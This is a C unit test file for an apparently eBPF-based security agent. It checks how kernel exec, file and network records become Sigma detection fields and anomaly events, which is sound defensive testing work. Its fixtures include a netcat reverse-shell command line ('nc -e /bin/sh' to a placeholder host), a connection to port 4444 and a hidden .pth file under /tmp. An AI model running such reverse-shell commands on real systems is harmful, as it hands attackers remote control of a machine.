/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Records -> Sigma fields: what each category reads from a kernel record,
 * which records no rule sees, and that a record and its JSON give the same
 * fields (the daemon and `clawos-ebpf match` must agree).  Also the hit ->
 * anomaly mapping (severity, priority, matched values).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <syslog.h>
#include <arpa/inet.h>

#include <cmocka.h>

#include "agent/event-json.h"
#include "agent/util/macro.h"
#include "agent/rules-event.h"

static const struct event_context ctx = {.host = "h", .exe = "/usr/bin/python3", .user = "root"};

static void hdr(struct clawos_event_hdr *h, unsigned type, size_t size)
{
	memset(h, 0, sizeof(*h));
	h->type = (uint8_t)type;
	h->version = CLAWOS_ABI_VERSION;
	h->size = (uint16_t)size;
	h->cpu = 1;
	h->seq = 99;
	h->pid = 700;
	h->tid = 700;
	h->ppid = 600;
	h->uid = 0;
	memcpy(h->comm, "nc", 3);
}

static void assert_field(const struct rules_event *ev, int f, const char *want)
{
	if (!want) {
		if (ev->value[f])
			fail_msg("%s: wanted none, got '%.*s'", rules_field_name(f), (int)ev->len[f], ev->value[f]);
		return;
	}
	if (!ev->value[f] || ev->len[f] != strlen(want) || memcmp(ev->value[f], want, ev->len[f]) != 0)
		fail_msg("%s: wanted '%s', got '%.*s'", rules_field_name(f), want, ev->value[f] ? (int)ev->len[f] : 6,
			 ev->value[f] ? ev->value[f] : "(none)");
}

/* the same fields from the record's JSON */
static void assert_same_from_json(const struct clawos_event_hdr *h, const struct rules_event_buf *want,
				  const struct rules_proc *p)
{
	struct json_writer w = {};
	struct rules_event_buf got;
	struct json_object *o;
	size_t len;
	const char *line = event_json(&w, h, &ctx, &len);

	assert_non_null(line);
	o = json_tokener_parse(line);
	assert_non_null(o);
	assert_true(rules_event_from_json(&got, o, p));
	assert_int_equal(got.ev.category, want->ev.category);
	for (int f = 0; f < _RF_MAX; f++) {
		char buf[8192];

		if (f == RF_IMAGE && h->type != CLAWOS_EV_EXEC)
			continue; /* the process's exe: the JSON's comes from the context */
		if (!want->ev.value[f]) {
			assert_field(&got.ev, f, NULL);
			continue;
		}
		snprintf(buf, sizeof(buf), "%.*s", (int)want->ev.len[f], want->ev.value[f]);
		assert_field(&got.ev, f, buf);
	}
	assert_string_equal(got.subject, want->subject);
	assert_string_equal(got.trigger, want->trigger);
	json_object_put(o);
	jw_free(&w);
}

static void test_exec(void **state)
{
	static const char args[] = "sh\0-c\0id; nc -e /bin/sh x 1\0";
	struct clawos_exec_event e = {};
	struct rules_event_buf b;
	struct rules_proc p = {.user = "root",
			       .parent_exe = "/usr/sbin/sshd",
			       .parent_cmdline = "sshd: alice [priv]",
			       .parent_cmdline_len = 18};

	hdr(&e.hdr, CLAWOS_EV_EXEC, CLAWOS_EXEC_FIXED_SIZE + sizeof(args));
	snprintf(e.filename, sizeof(e.filename), "/usr/bin/dash");
	snprintf(e.cwd, sizeof(e.cwd), "/var/tmp");
	memcpy(e.args, args, sizeof(args));
	e.args_len = sizeof(args) - 1; /* the literal's own NUL is not argv's */
	e.hdr.size = (uint16_t)(CLAWOS_EXEC_FIXED_SIZE + e.args_len);
	assert_true(rules_record_relevant(&e.hdr));
	assert_true(rules_event_from_record(&b, &e.hdr, &p));
	assert_int_equal(b.ev.category, RULES_CAT_PROCESS_CREATION);
	assert_field(&b.ev, RF_IMAGE, "/usr/bin/dash");
	assert_field(&b.ev, RF_COMMAND_LINE, "sh -c id; nc -e /bin/sh x 1");
	assert_field(&b.ev, RF_CURRENT_DIRECTORY, "/var/tmp");
	assert_field(&b.ev, RF_USER, "root");
	assert_field(&b.ev, RF_LOGON_ID, "0");
	assert_field(&b.ev, RF_PROCESS_ID, "700");
	assert_field(&b.ev, RF_PARENT_PROCESS_ID, "600");
	assert_field(&b.ev, RF_PARENT_IMAGE, "/usr/sbin/sshd");
	assert_field(&b.ev, RF_PARENT_COMMAND_LINE, "sshd: alice [priv]");
	assert_field(&b.ev, RF_TARGET_FILENAME, NULL);
	assert_string_equal(b.subject, "/usr/bin/dash");
	assert_string_equal(b.trigger, "exec");
	/* a file name that fills its field (no NUL): all of it, subject too */
	memset(e.filename, 'x', sizeof(e.filename));
	e.filename[0] = '/';
	assert_true(rules_event_from_record(&b, &e.hdr, &p));
	assert_int_equal(b.ev.len[RF_IMAGE], sizeof(e.filename));
	assert_int_equal(strlen(b.subject), sizeof(e.filename));
	snprintf(e.filename, sizeof(e.filename), "/usr/bin/dash");
	assert_true(rules_event_from_record(&b, &e.hdr, &p));
	assert_same_from_json(&e.hdr, &b, &p);
	/* a failed exec is not a process creation; no cwd is no field */
	e.cwd[0] = '\0';
	assert_true(rules_event_from_record(&b, &e.hdr, &p));
	assert_field(&b.ev, RF_CURRENT_DIRECTORY, NULL);
	e.flags |= CLAWOS_EXEC_F_FAILED;
	assert_false(rules_record_relevant(&e.hdr));
	assert_false(rules_event_from_record(&b, &e.hdr, &p));
}

static void test_file(void **state)
{
	static const char path[] = "/tmp/a/../.x.pth";
	struct clawos_file_event e = {};
	struct rules_event_buf b;
	struct rules_proc p = {.exe = "/usr/bin/python3", .user = "root"};

	hdr(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
	memcpy(e.path, path, sizeof(path));
	e.path_len = sizeof(path);
	e.path_flags = CLAWOS_PATH_F_RESOLVED;
	e.flags = 01 | 0100;
	e.ret = 3;
	e.mechanism = CLAWOS_MECH_TRACEPOINT;
	assert_false(rules_record_relevant(&e.hdr)); /* opened, not created */
	assert_false(rules_event_from_record(&b, &e.hdr, &p));
	e.path_flags |= CLAWOS_PATH_F_CREATED;
	assert_true(rules_record_relevant(&e.hdr));
	assert_true(rules_event_from_record(&b, &e.hdr, &p));
	assert_int_equal(b.ev.category, RULES_CAT_FILE_EVENT);
	assert_field(&b.ev, RF_TARGET_FILENAME, "/tmp/.x.pth"); /* as the JSON's path */
	assert_field(&b.ev, RF_IMAGE, "/usr/bin/python3");
	assert_field(&b.ev, RF_USER, "root");
	assert_field(&b.ev, RF_COMMAND_LINE, NULL);
	assert_same_from_json(&e.hdr, &b, &p);
}

static void test_network(void **state)
{
	struct clawos_net_event e = {};
	struct clawos_net6_event e6 = {};
	struct rules_event_buf b;
	struct rules_proc p = {.exe = "/usr/bin/bash", .user = "root"};

	hdr(&e.hdr, CLAWOS_EV_NET, sizeof(e));
	e.op = CLAWOS_NET_OP_CONNECT;
	e.info = CLAWOS_NET_INFO(CLAWOS_PROTO_TCP, CLAWOS_MECH_CGROUP);
	e.addr = htonl(0xc0000207); /* 192.0.2.7 */
	e.port = htons(4444);
	assert_true(rules_event_from_record(&b, &e.hdr, &p));
	assert_int_equal(b.ev.category, RULES_CAT_NETWORK_CONNECTION);
	assert_field(&b.ev, RF_INITIATED, "true");
	assert_field(&b.ev, RF_DESTINATION_IP, "192.0.2.7");
	assert_field(&b.ev, RF_DESTINATION_PORT, "4444");
	assert_field(&b.ev, RF_SOURCE_IP, NULL); /* the local end is not recorded */
	assert_field(&b.ev, RF_PROTOCOL, "tcp");
	assert_field(&b.ev, RF_DESTINATION_IS_IPV6, "false");
	assert_field(&b.ev, RF_IMAGE, "/usr/bin/bash");
	assert_string_equal(b.subject, "192.0.2.7:4444");
	assert_same_from_json(&e.hdr, &b, &p);
	e.op = CLAWOS_NET_OP_BIND;
	assert_false(rules_record_relevant(&e.hdr));
	assert_false(rules_event_from_record(&b, &e.hdr, &p));

	hdr(&e6.hdr, CLAWOS_EV_NET6, sizeof(e6));
	e6.op = CLAWOS_NET_OP_ACCEPT;
	e6.info = CLAWOS_NET_INFO(CLAWOS_PROTO_TCP, CLAWOS_MECH_TRACEPOINT);
	e6.addr[0] = 0x20, e6.addr[1] = 0x01, e6.addr[2] = 0x0d, e6.addr[3] = 0xb8, e6.addr[15] = 1;
	e6.port = htons(51000);
	assert_true(rules_event_from_record(&b, &e6.hdr, &p));
	assert_field(&b.ev, RF_INITIATED, "false");
	assert_field(&b.ev, RF_SOURCE_IP, "2001:db8::1"); /* accept: the peer is the source */
	assert_field(&b.ev, RF_SOURCE_PORT, "51000");
	assert_field(&b.ev, RF_DESTINATION_IP, NULL);
	assert_field(&b.ev, RF_SOURCE_IS_IPV6, "true");
	assert_string_equal(b.subject, "[2001:db8::1]:51000");
	assert_same_from_json(&e6.hdr, &b, &p);
}

static void test_other_records(void **state)
{
	struct clawos_proc_event e = {};
	struct rules_event_buf b;
	struct json_object *o = json_tokener_parse("{\"event\":\"stats\"}");

	hdr(&e.hdr, CLAWOS_EV_PROC, sizeof(e));
	assert_false(rules_record_relevant(&e.hdr));
	assert_false(rules_event_from_record(&b, &e.hdr, NULL));
	assert_false(rules_event_from_json(&b, o, NULL));
	json_object_put(o);
	o = json_tokener_parse("{\"event\":\"exec\",\"exec\":{\"success\":false}}");
	assert_false(rules_event_from_json(&b, o, NULL));
	json_object_put(o);
	o = json_tokener_parse("{\"event\":\"network\",\"network\":{\"op\":\"connect\",\"port\":\"x\"}}");
	assert_false(rules_event_from_json(&b, o, NULL)); /* malformed: no fields to make up */
	json_object_put(o);
}

static void test_anomaly(void **state)
{
	char *tags[] = {(char *)"attack.t1059"};
	struct rules_rule rule = {.id = (char *)"d0a15a3f-3f4e-4a6f-8c6a-0123456789ab",
				  .title = (char *)"Reverse shell",
				  .level = RULES_LEVEL_CRITICAL,
				  .category = RULES_CAT_PROCESS_CREATION,
				  .file = (char *)"/r.yml",
				  .tags = tags,
				  .n_tags = 1};
	struct clawos_exec_event e = {};
	struct rules_event_buf b;
	struct clawos_anomaly_event a;
	struct rules_hit_ctx hc;

	hdr(&e.hdr, CLAWOS_EV_EXEC, CLAWOS_EXEC_FIXED_SIZE);
	snprintf(e.filename, sizeof(e.filename), "/usr/bin/nc");
	assert_true(rules_event_from_record(&b, &e.hdr, NULL));
	rules_anomaly_build(&rule, (1u << RF_IMAGE) | (1u << RF_USER), &b, &e.hdr, &a, &hc);
	assert_int_equal(a.hdr.type, CLAWOS_EV_ANOMALY);
	assert_int_equal(a.hdr.size, sizeof(a));
	assert_int_equal(a.hdr.pid, 700);
	assert_int_equal(a.kind, CLAWOS_ANOMALY_SIGMA);
	assert_int_equal(a.severity, CLAWOS_SEV_CRITICAL);
	/* cut to the wire field, with a hash of the whole id: ids that share
	 * their first 31 bytes stay apart for de-duplication */
	assert_int_equal(strlen(a.rule), 31);
	assert_memory_equal(a.rule, "d0a15a3f-3f4e-4a6f-8c6~", 23);
	{
		struct clawos_anomaly_event b2;

		rule.id = (char *)"d0a15a3f-3f4e-4a6f-8c6a-0123456789ac";
		rules_anomaly_build(&rule, 0, &b, &e.hdr, &b2, &hc);
		assert_true(strcmp(a.rule, b2.rule) != 0);
		rule.id = (char *)"short-id";
		rules_anomaly_build(&rule, 0, &b, &e.hdr, &b2, &hc);
		assert_string_equal(b2.rule, "short-id");
		rule.id = (char *)"d0a15a3f-3f4e-4a6f-8c6a-0123456789ab";
		rules_anomaly_build(&rule, (1u << RF_IMAGE) | (1u << RF_USER), &b, &e.hdr, &a, &hc);
	}
	assert_string_equal(a.subject, "");	 /* de-duplication: per rule and process */
	assert_int_equal(hc.sigma.n_matched, 1); /* User has no value in this record */
	assert_string_equal(hc.sigma.matched_names[0], "Image");
	assert_string_equal(hc.sigma.level, "critical");
	assert_string_equal(hc.sigma.trigger_event, "exec");
	assert_int_equal(hc.sigma.trigger_cpu, 1);
	assert_int_equal(hc.sigma.trigger_seq, 99);
	assert_int_equal(rules_level_priority(RULES_LEVEL_CRITICAL), LOG_CRIT);
	assert_int_equal(rules_level_priority(RULES_LEVEL_HIGH), LOG_ERR);
	assert_int_equal(rules_level_priority(RULES_LEVEL_MEDIUM), LOG_WARNING);
	assert_int_equal(rules_level_priority(RULES_LEVEL_LOW), LOG_NOTICE);
	assert_int_equal(rules_level_priority(RULES_LEVEL_INFORMATIONAL), LOG_INFO);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_exec),	  cmocka_unit_test(test_file),	  cmocka_unit_test(test_network),
	    cmocka_unit_test(test_other_records), cmocka_unit_test(test_anomaly),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
